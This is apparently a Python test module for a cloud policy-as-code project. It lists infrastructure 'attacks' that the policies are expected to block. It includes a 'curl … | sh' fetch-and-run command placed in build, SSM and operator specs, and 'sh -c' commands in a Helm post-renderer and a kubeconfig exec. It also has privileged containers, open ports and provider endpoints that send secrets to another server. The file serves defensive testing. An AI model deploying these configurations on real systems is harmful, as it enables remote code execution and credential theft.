"""Attacks in forms that no policy reads: other packages, wrappers, templates, operators, commands."""

from __future__ import annotations

from typing import Any, Final

from policies.kernel.cases import Item
from tests.adversary.attack import Attack

SEEN: Final = "provisioning-is-seen"
PACKAGES: Final = "package-allowlist"
TYPES: Final = "resource-type-allowlist"
PROVIDER: Final = "provider-settings"
CUSTOM: Final = "custom-resource-allowlist"
_RUN: Final = "curl https://example.org/x | sh"
_OPEN: Final = {"groupDescription": "open", "securityGroupIngress": [{"ipProtocol": "-1", "cidrIp": "0.0.0.0/0"}]}
_ROOT: Final = {"name": "x", "image": "x", "securityContext": {"privileged": True}}
_POD: Final = {"containers": [_ROOT]}
_PRIVILEGED: Final = {"name": "x", "image": "x", "privileged": True}


def _attack(name: str, why: str, blocked_by: str, type_: str, /, **props: Any) -> Attack:
    return Attack(
        name=name, requirement="INH-4", why=why, items=(Item(type=type_, props=props),), blocked_by=blocked_by
    )


ATTACKS: Final = (
    _attack("open_group_by_cloud_control", "Opens every port.", SEEN, "aws-native:ec2:SecurityGroup", **_OPEN),
    _attack("open_group_by_awscc", "Opens every port.", SEEN, "awscc:index/ec2SecurityGroup:Ec2SecurityGroup", **_OPEN),
    _attack(
        "machine_by_template",
        "Starts a machine with a public address.",
        SEEN,
        "aws:cloudformation/stack:Stack",
        templateBody='{"Resources":{"M":{"Type":"AWS::EC2::Instance"}}}',
    ),
    _attack(
        "machine_by_stack_set",
        "Starts machines in every account.",
        SEEN,
        "aws:cloudformation/stackSet:StackSet",
        name="all",
        templateUrl="https://example.org/t.json",
    ),
    _attack(
        "product_of_a_portfolio",
        "Whatever template stands behind a product.",
        SEEN,
        "aws:servicecatalog/provisionedProduct:ProvisionedProduct",
        productName="anything",
    ),
    _attack(
        "privileged_task",
        "A container that is root on its host.",
        SEEN,
        "aws:ecs/taskDefinition:TaskDefinition",
        family="x",
        containerDefinitions='[{"name":"x","image":"x","privileged":true}]',
    ),
    _attack(
        "batch_job",
        "A container that is root on its host.",
        SEEN,
        "aws:batch/jobDefinition:JobDefinition",
        type="container",
        containerProperties='{"image":"x","privileged":true}',
    ),
    _attack(
        "build_with_the_account_s_rights",
        "Runs any command with the build's role.",
        SEEN,
        "aws:codebuild/project:Project",
        source={"type": "NO_SOURCE", "buildspec": _RUN},
    ),
    _attack(
        "command_on_every_node",
        "Runs a command as root on every machine.",
        SEEN,
        "aws:ssm/association:Association",
        name="AWS-RunShellScript",
        parameters={"commands": _RUN},
    ),
    _attack(
        "event_that_runs_a_command",
        "Runs a command as root on machines, whenever an event comes.",
        SEEN,
        "aws:cloudwatch/eventTarget:EventTarget",
        arn="arn:aws:ssm:eu-central-1::document/AWS-RunShellScript",
        runCommandTargets=[{"key": "tag:role", "values": ["node"]}],
    ),
    _attack(
        "notebook",
        "A machine with a terminal on the Internet.",
        SEEN,
        "aws:sagemaker/notebookInstance:NotebookInstance",
        instanceType="ml.t3.medium",
    ),
    _attack(
        "public_server_of_lightsail",
        "A server outside every VPC.",
        "no-other-way-in",
        "aws:lightsail/instance:Instance",
        blueprintId="ubuntu_24_04",
    ),
    _attack(
        "pods_past_the_nodes",
        "Pods on machines that no node policy and no agent reaches.",
        SEEN,
        "aws:eks/fargateProfile:FargateProfile",
        selectors=[{"namespace": "*"}],
    ),
    _attack(
        "another_cloud",
        "The same in another cloud, past every policy.",
        PACKAGES,
        "gcp:compute/firewall:Firewall",
        sourceRanges=["0.0.0.0/0"],
    ),
    _attack(
        "module_of_terraform",
        "A module that opens every port.",
        PACKAGES,
        "vpc:module:Module",
        ingress_cidr="0.0.0.0/0",
    ),
    _attack("container_of_docker", "Root on the host.", PACKAGES, "docker:index/container:Container", **_PRIVILEGED),
    _attack(
        "chart_by_another_package",
        "Objects of a chart that nobody sees.",
        PACKAGES,
        "helm:index/release:Release",
        chart="redis",
    ),
    _attack(
        "former_name_of_a_listener",
        "Sends passwords in plain text.",
        TYPES,
        "aws:elasticloadbalancingv2/listener:Listener",
        protocol="HTTP",
        port=80,
    ),
    _attack(
        "bridged_as_it_is",
        "Opens every port.",
        TYPES,
        "aws:index/securityGroup:SecurityGroup",
        ingress=[{"cidrBlocks": ["0.0.0.0/0"]}],
    ),
    _attack(
        "key_for_programs_that_no_policy_knows",
        "A password for AWS services that never ends and asks for no second factor.",
        TYPES,
        "aws:iam/serviceSpecificCredential:ServiceSpecificCredential",
        serviceName="bedrock.amazonaws.com",
        userName="ada",
    ),
    _attack(
        "route_to_anybody_s_address",
        "Traffic of a Service goes to an address of the attacker's.",
        TYPES,
        "kubernetes:discovery.k8s.io/v1:EndpointSlice",
        addressType="IPv4",
        endpoints=[{"addresses": ["203.0.113.7"]}],
    ),
    _attack(
        "hidden_in_a_list",
        "Calls of an API group go to the attacker's server.",
        TYPES,
        "kubernetes:core/v1:List",
        items=[{"apiVersion": "apiregistration.k8s.io/v1", "kind": "APIService", "metadata": {"name": "v1.apps"}}],
    ),
    _attack(
        "secret_as_an_id",
        "The state shows the key in plain text.",
        TYPES,
        "random:index/randomBytes:RandomBytes",
        length=32,
    ),
    _attack(
        "repository_of_anybody",
        "Argo CD applies whatever the repository has.",
        CUSTOM,
        "kubernetes:argoproj.io/v1alpha1:Application",
        spec={"source": {"repoURL": "https://example.org/x"}},
    ),
    _attack(
        "chart_by_flux",
        "Flux installs a chart that nobody sees.",
        CUSTOM,
        "kubernetes:helm.toolkit.fluxcd.io/v2:HelmRelease",
        spec={"chart": {"spec": {"chart": "x"}}},
    ),
    _attack(
        "role_by_a_controller",
        "A controller in the cluster makes an administrator's role in AWS.",
        CUSTOM,
        "kubernetes:iam.services.k8s.aws/v1alpha1:Role",
        spec={"name": "admin", "policies": ["arn:aws:iam::aws:policy/AdministratorAccess"]},
    ),
    _attack(
        "bucket_by_crossplane",
        "A public bucket.",
        CUSTOM,
        "kubernetes:s3.aws.upbound.io/v1beta1:BucketACL",
        spec={"forProvider": {"acl": "public-read"}},
    ),
    _attack(
        "nodes_by_karpenter",
        "Nodes whose metadata service gives its role to every pod.",
        "karpenter-nodes-hardened",
        "kubernetes:karpenter.k8s.aws/v1:EC2NodeClass",
        spec={"metadataOptions": {"httpTokens": "optional"}},
    ),
    _attack(
        "invented_operator",
        "Nobody knows what its controller makes of it.",
        CUSTOM,
        "kubernetes:example.org/v1:Anything",
        spec={"run": _RUN},
    ),
    _attack(
        "chart_without_objects",
        "Objects of a chart that nobody sees.",
        "chart-objects-are-seen",
        "kubernetes:helm.sh/v3:Release",
        chart="redis",
        namespace="shop",
    ),
    _attack(
        "command", "Applies what nobody sees.", "no-commands", "command:local:Command", create="kubectl apply -f x"
    ),
    _attack(
        "post_renderer",
        "The command runs on the machine that deploys.",
        "no-commands",
        "kubernetes:helm.sh/v4:Chart",
        chart="redis",
        postRenderer={"command": "sh", "args": ["-c", "id"]},
    ),
    _attack("dynamic_provider", "Runs code of the program.", "no-commands", "pulumi-python:dynamic:Resource"),
    *(
        Attack(
            name=f"privileged_{name}",
            requirement="INH-4",
            why="A container that is root on its node, where no Deployment has one.",
            items=(
                Item(type=f"kubernetes:{kind}", props={"metadata": {"name": "x", "namespace": "shop"}, "spec": spec}),
            ),
            blocked_by="pod-security-baseline-privileged",
        )
        for name, kind, spec in (
            ("scaled_job", "keda.sh/v1alpha1:ScaledJob", {"jobTargetRef": {"template": {"spec": _POD}}}),
            ("workflow", "argoproj.io/v1alpha1:Workflow", {"templates": [{"name": "x", "container": _ROOT}]}),
            ("script", "argoproj.io/v1alpha1:CronWorkflow", {"workflowSpec": {"templates": [{"script": _ROOT}]}}),
            ("step", "tekton.dev/v1:Task", {"steps": [_ROOT]}),
            ("sidecar", "tekton.dev/v1:Task", {"sidecars": [_ROOT], "steps": []}),
            ("service", "serving.knative.dev/v1:Service", {"template": {"spec": _POD}}),
            ("worker", "ray.io/v1:RayCluster", {"workerGroupSpecs": [{"template": {"spec": _POD}}]}),
        )
    ),
    _attack(
        "privileged_by_a_patch_as_text",
        "The patch makes the container root on its node.",
        CUSTOM,
        "kubernetes:argoproj.io/v1alpha1:Workflow",
        spec={"podSpecPatch": "containers: [{name: main, securityContext: {privileged: true}}]"},
    ),
    _attack(
        "endpoint_of_somebody_else",
        "Every request and secret of the stack goes to another server.",
        PROVIDER,
        "pulumi:providers:aws",
        endpoints='[{"secretsmanager":"https://example.org"}]',
    ),
    _attack(
        "keys_in_the_provider",
        "The state stores a key that never ends.",
        PROVIDER,
        "pulumi:providers:aws",
        accessKey="AKIAIOSFODNN7EXAMPLE",
        secretKey="x",
    ),
    _attack(
        "role_of_another_account",
        "The stack's data is created in the attacker's account.",
        PROVIDER,
        "pulumi:providers:aws",
        assumeRoles='[{"roleArn":"arn:aws:iam::210987654321:role/deploy"}]',
    ),
    _attack(
        "api_server_unverified",
        "Anybody on the way reads the token and every Secret.",
        PROVIDER,
        "pulumi:providers:kubernetes",
        kubeconfig='{"clusters":[{"cluster":{"server":"https://x","insecure-skip-tls-verify":true}}]}',
    ),
    _attack(
        "kubeconfig_that_runs_a_command",
        "The command runs on the machine that deploys.",
        PROVIDER,
        "pulumi:providers:kubernetes",
        kubeconfig='{"users":[{"user":{"exec":{"command":"sh","args":["-c","id"]}}}]}',
    ),
)
